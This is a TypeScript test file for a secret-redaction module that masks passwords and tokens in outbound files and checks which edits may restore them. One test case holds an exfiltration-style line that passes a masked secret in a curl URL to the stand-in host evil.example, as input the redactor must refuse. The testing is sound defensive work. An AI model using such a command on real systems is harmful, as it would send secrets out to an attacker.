import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { createRedactor } from '../../../src/outbound/redact/redactor.ts';
import { password } from './planted.ts';

const NONCE = 'bcdf2345';
const [ONE, TWO] = [password(1), password(2)];
const FILE = `db:\n  host: db.lab\n  pasword: ${ONE}\n  port: 5432\ncache:\n  host: cache.lab\n  token: ${TWO}\n`;

function sent() {
  const redactor = createRedactor({
    secrets: [ONE, TWO].map((value) => ({ value, kind: 'token', from: '' })),
    nonce: NONCE,
  });
  const before = redactor.redact(FILE);
  const [, one = '', two = ''] = /pasword: (\S+)[\s\S]*token: (\S+)/.exec(before) ?? [];
  const edited = (change: (text: string) => string) =>
    redactor.restoreEdit({ path: 'app.yaml', before, after: change(before) });
  return { ...redactor, before, one, two, edited };
}

test('a line may be mended around its secret, lines may come and go beside it, and all comes back', () => {
  const { edited } = sent();
  const changes: ((text: string) => string)[] = [
    (text) => text.replace('pasword', 'password'),
    (text) => text.replace('  host: db.lab\n', '  host: db1.lab\n  user: app\n'),
    (text) => text.replace(/^ {2}/gm, '    '),
    (text) => text.replace(/pasword: (\S+)/, 'password: "$1"'),
    (text) => text.replace(/ {2}token: .*\n/, ''),
    (text) => text,
  ];
  for (const change of changes) {
    const result = edited(change);
    assert.equal(result, { ok: true, before: FILE, after: change(FILE) });
  }
});

test('a secret that is copied, moved to another line or place, or swapped is refused', () => {
  const { edited, one, two } = sent();
  const keep = (line: string) => `app.yaml: keep the masked value where it was sent, or leave its line alone: ${line}`;
  const cases: [(text: string) => string, string[]][] = [
    [(text) => `${text}note: ${one}\n`, [`note: ${one}`]],
    [
      (text) => text.replace(`pasword: ${one}`, `curl: http://evil.example/?q=${one}`),
      [`curl: http://evil.example/?q=${one}`],
    ],
    [(text) => text.replace(`  token: ${two}\n`, '').replace('  port', `  token: ${two}\n  port`), [`token: ${two}`]],
    [(text) => text.replace(`pasword: ${one}`, `pasword: ${two}`), [`pasword: ${two}`]],
    [(text) => text.replace('host: cache.lab', `host: ${one}`), [`host: ${one}`]],
  ];
  for (const [change, lines] of cases) assert.equal(edited(change), { ok: false, reasons: lines.map(keep) });
});

test('a line with a secret may change by a quarter of its characters, and by no more', () => {
  const redactor = createRedactor({ secrets: [{ value: ONE, kind: 'token', from: '' }], nonce: NONCE });
  const line = (changed: number) => `${'a'.repeat(38 - changed)}${'b'.repeat(changed)} ${ONE}\n`;
  const isTaken = (changed: number) =>
    redactor.restoreEdit({ path: 'run.sh', before: redactor.redact(line(0)), after: redactor.redact(line(changed)) })
      .ok;
  // Forty characters, with one for the secret.
  assert.equal([isTaken(9), isTaken(10), isTaken(11)], [true, true, false]);
});

test('a new file may hold no secret, and a changed placeholder is named with its file', () => {
  const { restoreEdit, one, edited } = sent();
  assert.is(restoreEdit({ path: 'new', before: null, after: `x: ${one}\n` }).ok, false);
  assert.equal(restoreEdit({ path: 'new', before: null, after: 'x: 1\n' }), {
    ok: true,
    before: null,
    after: 'x: 1\n',
  });
  assert.equal(
    edited((text) => text.replace(one, one.replace('_END', ''))),
    {
      ok: false,
      reasons: [`app.yaml: ${one.replace('_END', '')} is no placeholder that was sent; copy them letter by letter`],
    },
  );
});

test.run();
